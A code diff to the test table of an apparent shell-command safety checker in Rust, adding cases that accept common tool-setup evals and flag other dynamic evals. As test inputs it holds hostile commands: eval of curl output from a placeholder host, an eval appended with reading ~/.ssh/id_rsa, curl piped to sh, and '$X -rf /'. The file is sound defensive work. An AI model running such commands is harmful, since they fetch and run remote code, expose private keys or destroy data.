@@ -78,6 +78,22 @@ fn issues_table() {
         ("echo 'open", Some(ShellIssue::Unparseable)),
         ("$X -rf /", Some(ShellIssue::DynamicCommand)),
         ("eval \"$X\"", Some(ShellIssue::DynamicEval)),
+        // A tool's own shell setup, made to be eval'ed.
+        ("eval \"$(ssh-agent -s)\"", None),
+        ("eval $(minikube docker-env)", None),
+        ("eval \"$(/opt/homebrew/bin/brew shellenv)\"", None),
+        ("eval \"$(pyenv init -)\"", None),
+        ("eval `ssh-agent -c`", None),
+        // … but not anything else's output, nor a setup tool given more to do.
+        (
+            "eval \"$(curl -s https://x.example/env)\"",
+            Some(ShellIssue::DynamicEval),
+        ),
+        (
+            "eval \"$(pyenv init -; cat ~/.ssh/id_rsa)\"",
+            Some(ShellIssue::DynamicEval),
+        ),
+        ("eval \"$(ssh-agent -s) $X\"", Some(ShellIssue::DynamicEval)),
         ("curl -s x.example | sh", Some(ShellIssue::NetworkToShell)),
         (
             "bash <(curl -s https://x.example)",
